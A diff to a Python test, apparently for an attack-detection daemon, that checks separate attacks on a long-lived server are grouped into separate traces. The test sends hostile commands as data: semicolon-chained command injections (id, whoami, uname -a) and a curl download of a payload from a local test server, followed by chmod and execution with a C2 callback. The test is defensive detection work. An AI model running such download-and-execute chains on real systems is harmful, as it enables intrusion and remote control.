@@ -312,11 +312,11 @@ def test_one_trace_per_attack_on_a_long_lived_server(daemon, server):
     tag = uuid.uuid4().hex[:6]
     drop = f"/tmp/spyder-drop-{tag}"
     try:
-        _get(port, f"id; whoami; /bin/true spyder-split1-{tag}")
-        first = wait_findings(daemon, lambda fs: _of(fs, f"spyder-split1-{tag}", 2))
+        _get(port, f"id; whoami; sleep 0 spyder-flag-split1-{tag}; true")
+        first = wait_findings(daemon, lambda fs: _of(fs, f"spyder-flag-split1-{tag}", 2))
         time.sleep(IDLE + 1)  # a quiet spell longer than findings.trace_idle
-        _get(port, f"uname -a; /bin/true spyder-split2-{tag}")
-        second = wait_findings(daemon, lambda fs: _of(fs, f"spyder-split2-{tag}", 2))
+        _get(port, f"uname -a; sleep 0 spyder-flag-split2-{tag}; true")
+        second = wait_findings(daemon, lambda fs: _of(fs, f"spyder-flag-split2-{tag}", 2))
         _get(port, f"curl -s -o {drop} http://127.0.0.1:{srv.port}/payload; chmod +x {drop}")
         _get(port, f"{drop} {srv.c2_port}")
         assert srv.hits == ["/payload"] and len(srv.callbacks) == 1
